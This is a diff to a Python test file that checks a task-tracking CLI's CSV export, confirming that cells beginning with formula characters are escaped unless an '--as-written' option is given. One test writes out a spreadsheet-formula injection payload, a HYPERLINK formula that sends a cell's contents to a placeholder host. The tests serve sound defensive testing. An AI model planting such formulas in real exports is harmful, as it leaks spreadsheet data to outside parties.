@@ -22,6 +22,8 @@ import msgspec
 import pytest
 from click.testing import CliRunner
 from histories import BEGIN, Journal, random_history
+from hypothesis import given
+from hypothesis import strategies as st
 
 from tasktrail import TaskFilters
 from tasktrail.api.reader import Reader
@@ -179,12 +181,49 @@ def test_json_lines_are_what_the_commands_print(export: Command, reader: Reader,
 def test_csv_has_the_same_values_under_the_names_of_the_columns(export: Command, what: Any) -> None:
     position = "700"
     objects = lines(export(what, "--as-of", position))
-    rows = list(csv.DictReader(io.StringIO(export(what, "--as-of", position, "--format", "csv"), newline="")))
+    written = export(what, "--as-of", position, "--format", "csv", "--as-written")
+    rows = list(csv.DictReader(io.StringIO(written, newline="")))
     assert len(rows) == len(objects)
     kinds = dict(COLUMNS[what])
     for row, found in zip(rows, objects, strict=True):
         assert list(row) == list(kinds) == list(found)
         assert {name: back(row[name], kinds[name], found[name]) for name in row} == found
+
+
+@given(text=st.text(alphabet="=+-@\t\r\n＝＋－＠'\",;a0.e ", max_size=6))
+def test_no_cell_of_csv_is_a_formula_and_all_others_are_as_they_were(history: tuple[Path, Journal], text: str) -> None:
+    record = msgspec.structs.replace(history[1].records[5], reason=text)
+
+    def cells(*, as_written: bool) -> list[str]:
+        line = form_of("csv", "log", "", as_written=as_written).line(record).decode()
+        (row,) = csv.reader(io.StringIO(line, newline=""))
+        return row
+
+    place = [column.name for column in COLUMNS["log"]].index("reason")
+    safe, exact = cells(as_written=False), cells(as_written=True)
+    assert (safe[:place], safe[place + 1 :]) == (exact[:place], exact[place + 1 :])
+    assert exact[place] == text
+    formula = text[:1] in set("=+-@\t\r\n＝＋－＠") and not re.fullmatch(r"-?\d+(\.\d+)?(e\d+)?", text, re.ASCII)
+    assert safe[place] == (f"'{text}" if formula else text)
+
+
+def test_formulas_stay_as_written_only_where_that_is_asked_for(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://a.example/?"&A1;"x")'
+    with closing(SqliteEventLog(tmp_path / "log.db", now=BEGIN)) as log:
+        Journal(log).create(options={"text": formula}, label=formula)
+
+    def cells(*more: str) -> dict[str, str]:
+        with CliRunner().isolation() as streams:
+            assert run([*command_of("tasks", "--format", "csv", *more), "--data", str(tmp_path)]) == 0
+            sys.stdout.flush()
+            (row,) = csv.DictReader(io.StringIO(streams[0].getvalue().decode(), newline=""))
+        return row
+
+    assert cells()["label"] == f"'{formula}"
+    assert cells("--as-written")["label"] == formula
+    assert cells()["options"] == cells("--as-written")["options"] == json.dumps({"text": formula}).replace(" ", "")
+    with CliRunner().isolation():
+        assert run([*command_of("tasks", "--as-written"), "--data", str(tmp_path)]) == 2
 
 
 def back(text: str, kind: str, found: Any) -> Any:
